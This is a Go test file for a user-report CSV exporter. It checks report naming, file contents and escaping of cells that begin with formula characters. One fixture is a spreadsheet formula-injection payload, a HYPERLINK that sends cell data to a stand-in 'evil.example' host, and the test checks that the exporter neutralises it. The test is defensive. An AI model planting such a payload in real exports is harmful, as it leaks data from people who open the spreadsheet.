package handlers_test

import (
	"encoding/csv"
	"io"
	"path/filepath"
	"strings"
	"testing"

	"cadre/domain/object"
)

// TestReport writes the users report twice and reads the files back.
func TestReport(t *testing.T) {
	e := setup(t)
	e.add(t, &object.User{Meta: object.Meta{Name: "zoe"}, FullName: "Zoë, \"Z\" Adams", EmailAddress: "zoe@example.com", Enabled: true, Roles: []string{e.readerOID, e.superOID}})
	e.add(t, &object.User{Meta: object.Meta{Name: "bob"}, FullName: "Bob", Enabled: false})

	tests := []struct {
		name     string
		params   map[string]any
		wantName string
	}{
		{name: "named", params: map[string]any{"name": "Weekly users"}, wantName: "Weekly users"},
		{name: "same name again gets a timestamp", params: map[string]any{"name": "Weekly users"}, wantName: "Weekly users 2026-03-14 15:09:26"},
		{name: "unnamed", params: map[string]any{}, wantName: "Users 2026-03-14 15:09:26"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := e.run(t, "report", tt.params, runOpts{})
			if res.err != nil || res.items != 3 || res.errs != 0 {
				t.Fatalf("run: err %v, %d items, %d errors; want 3 users", res.err, res.items, res.errs)
			}
			o, err := e.store.GetByName(t.Context(), object.TypeReport, tt.wantName)
			if err != nil {
				t.Fatalf("report %q: %v", tt.wantName, err)
			}
			rep := o.(*object.Report)
			if rep.Node != "node-7" || rep.FileName != rep.OID+".csv" || rep.Task == "" || !rep.CreatedAt.Equal(e.now) {
				t.Errorf("report = %+v", rep)
			}
			if filepath.Base(rep.FileName) != rep.FileName {
				t.Errorf("file name %q is not a base name", rep.FileName)
			}
			f, size, err := e.reports.Open(rep.FileName)
			if err != nil {
				t.Fatalf("open report file: %v", err)
			}
			defer f.Close()
			data, _ := io.ReadAll(f)
			if int64(len(data)) != size {
				t.Errorf("size %d, read %d bytes", size, len(data))
			}
			recs, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
			if err != nil {
				t.Fatalf("report is not CSV: %v\n%s", err, data)
			}
			want := [][]string{
				{"name", "fullName", "emailAddress", "enabled", "roles"},
				{"administrator", "Administrator", "", "true", "Superuser"},
				{"bob", "Bob", "", "false", ""},
				{"zoe", "Zoë, \"Z\" Adams", "zoe@example.com", "true", "Reader;Superuser"},
			}
			if len(recs) != len(want) {
				t.Fatalf("%d lines, want header + %d users:\n%s", len(recs), len(want)-1, data)
			}
			for i := range want {
				if strings.Join(recs[i], "|") != strings.Join(want[i], "|") {
					t.Errorf("line %d = %q, want %q", i+1, recs[i], want[i])
				}
			}
		})
	}
}

// TestReportCellsAreNotFormulas: a full name, e-mail or role name a
// spreadsheet would run as a formula (=, +, -, @, tab, CR first) is written
// with a leading apostrophe; other values are written as they are.
func TestReportCellsAreNotFormulas(t *testing.T) {
	e := setup(t)
	e.add(t, &object.User{Meta: object.Meta{Name: "mallory"}, FullName: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		EmailAddress: "-cmd@example.com", Enabled: true})
	e.add(t, &object.User{Meta: object.Meta{Name: "nat"}, FullName: "+1 555", EmailAddress: "nat@example.com", Enabled: true})
	e.add(t, &object.User{Meta: object.Meta{Name: "oz"}, FullName: "-2+3", Enabled: true})
	e.add(t, &object.User{Meta: object.Meta{Name: "pat"}, FullName: "Pat = Patricia", Enabled: true})
	if res := e.run(t, "report", map[string]any{"name": "Formulas"}, runOpts{}); res.err != nil {
		t.Fatal(res.err)
	}
	o, err := e.store.GetByName(t.Context(), object.TypeReport, "Formulas")
	if err != nil {
		t.Fatal(err)
	}
	f, _, err := e.reports.Open(o.(*object.Report).FileName)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string][]string{}
	for _, r := range recs {
		got[r[0]] = r
	}
	for name, want := range map[string][2]string{
		"mallory": {`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'-cmd@example.com"},
		"nat":     {"'+1 555", "nat@example.com"},
		"oz":      {"'-2+3", ""},
		"pat":     {"Pat = Patricia", ""},
	} {
		if r := got[name]; len(r) < 3 || r[1] != want[0] || r[2] != want[1] {
			t.Errorf("%s: fullName and e-mail %q, want %q", name, r, want)
		}
	}
}
